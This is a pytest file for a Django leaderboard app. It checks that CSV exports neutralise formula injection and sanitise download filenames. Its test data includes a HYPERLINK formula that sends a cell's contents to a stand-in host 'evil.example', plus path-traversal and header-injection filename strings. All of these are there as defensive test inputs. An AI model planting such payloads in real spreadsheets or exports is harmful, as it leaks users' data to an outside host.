"""CSV exports: cells a spreadsheet would run as formulas are neutralised, in every export."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from config.spreadsheets import csv_response, safe_cell, safe_filename
from leaderboard import activity
from leaderboard.models import ActivityEvent

from .factories import make_deal, make_rep_profile

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def read_csv(response) -> list[list[str]]:
    """The rows a spreadsheet would get from a CSV download."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1-555-0100", "'+1-555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Acme = best", "Acme = best"),
        ("-12.50", "-12.50"),
        (-3, -3),
        (Decimal("-4.25"), Decimal("-4.25")),
        (None, ""),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe_and_numbers_stay_numbers(value, written):
    assert safe_cell(value) == written


def test_download_name_keeps_only_safe_characters():
    assert safe_filename('deals "x"\r\n; evil.csv') == "deals-x-evil.csv"
    assert safe_filename("../../etc/passwd") == "etc-passwd.csv"
    response = csv_response(["a"], [[EVIL]], filename="report 2026-01-01")
    assert response["Content-Disposition"] == 'attachment; filename="report-2026-01-01.csv"'
    assert read_csv(response) == [["a"], ["'" + EVIL]]


@pytest.fixture
def evil_team(rep, other_rep):
    make_rep_profile(rep, team=EVIL)
    make_rep_profile(other_rep, team="West")
    activity.record(ActivityEvent.Verb.SHARED_TIP, actor=rep, owner=rep)
    make_deal("D-1", owner=rep, amount="25000.00")
    return rep


def test_leaderboard_export_neutralises_a_formula_team_name(manager_client, evil_team):
    rows = read_csv(manager_client.get(reverse("leaderboard_csv")))
    header, *body = rows
    by_user = {row[header.index("username")]: row for row in body}
    assert by_user["rep"][header.index("team")] == "'" + EVIL
    assert by_user["rep"][header.index("closed_won_revenue")] == "25000.00"
    assert not any(cell.startswith("=") for row in rows for cell in row)
